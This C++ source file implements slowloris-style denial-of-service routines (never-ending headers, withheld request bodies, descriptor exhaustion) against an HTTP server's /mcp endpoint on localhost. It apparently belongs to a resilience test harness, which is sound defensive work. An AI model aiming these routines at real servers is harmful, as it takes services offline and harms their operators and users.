// Connections that send very little: heads and bodies that never come to an end.
#include <thread>

#include "attack/clients.hpp"

namespace attack {
namespace {

// Sends the first part on all connections and then a byte at a time.
void drip(Field& field, std::string_view first) {
    std::vector<Wire> wires;
    for (int i = 0; i < field.connections && !field.is_over(); ++i) {
        Wire wire = field.connect();
        if (wire.send(first, field.until)) wires.push_back(std::move(wire)), field.count();
    }
    while (!field.is_over()) {
        for (Wire& wire : wires) wire.send_some("x");
        std::this_thread::sleep_for(milliseconds(200));  // the attack itself: it is slow
    }
    for (Wire& wire : wires) field.keep(std::move(wire));
}

}  // namespace

void slow_heads(Field& field) { drip(field, "POST /mcp HTTP/1.1\r\nHost: localhost\r\nX: "); }

void slow_bodies(Field& field) {
    const std::string whole = post(std::string(15'000'000, ' '), field.credentials);
    drip(field, std::string_view(whole).substr(0, whole.size() - 15'000'000));
}

// Sends a large body except its last bytes, so the server has to keep it.
void almost_whole_bodies(Field& field) {
    const std::string whole = post(std::string(15'000'000, ' '), field.credentials);
    drip(field, std::string_view(whole).substr(0, whole.size() - 100));
}

// The server has fewer descriptors than connections.
void held_connections(Field& field) {
    for (int i = 0; i < field.connections; ++i) {
        Wire wire = field.connect();
        if (wire.is_open()) field.count();
        field.keep(std::move(wire));
    }
}

}  // namespace attack
